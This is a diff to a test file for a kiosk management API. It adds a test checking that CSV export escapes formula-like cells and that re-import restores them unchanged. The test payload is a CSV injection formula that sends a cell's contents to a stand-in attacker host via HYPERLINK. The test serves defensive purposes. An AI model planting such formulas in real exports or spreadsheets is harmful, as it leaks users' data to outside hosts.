@@ -169,6 +169,21 @@ describe('kiosks', () => {
       expect(json.body.error.code).toBe('IMPORT_NOT_CSV');
     });
 
+    it('the export shows cells that look like formulas as text, and imports them back unchanged', async () => {
+      const id = (await ops.post('/api/kiosks', kioskBody(ids.siteA, 90))).body.id;
+      const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+      expect((await staffA.patch(`/api/kiosks/${id}`, { name: formula, notes: '@SUM(1+1)' })).status).toBe(200);
+      const exported = (await ops.get(`/api/sites/${ids.siteA}/kiosks.csv`)).text;
+      const line = exported.split('\n').find((l) => l.startsWith('MZ-1F-90,'))!;
+      expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
+      expect(line.endsWith(",'@SUM(1+1)")).toBe(true);
+      // Re-imported into another site under a new code and MAC, the name is the text staff wrote.
+      const reimport = `${header}\n${line.replace('MZ-1F-90', 'MZ-1F-91').replace(/00:1a:2b:3c:4d:5a/, '00:1a:2b:3c:4d:5b')}`;
+      expect((await ops.post(`/api/sites/${ids.siteA}/kiosks/import`, reimport)).status).toBe(201);
+      const copy = (await ops.get(`/api/kiosks?siteId=${ids.siteA}&q=MZ-1F-91`)).body.items[0];
+      expect(copy).toMatchObject({ name: formula, notes: '@SUM(1+1)' });
+    });
+
     it('staff of A cannot import into or export from a site of hospital B', async () => {
       const csv = `${header}\nX-1,X,registration,,10.4.0.1,00:dd:00:00:00:01,10.4.0.0/24,5900,`;
       const before = await count();
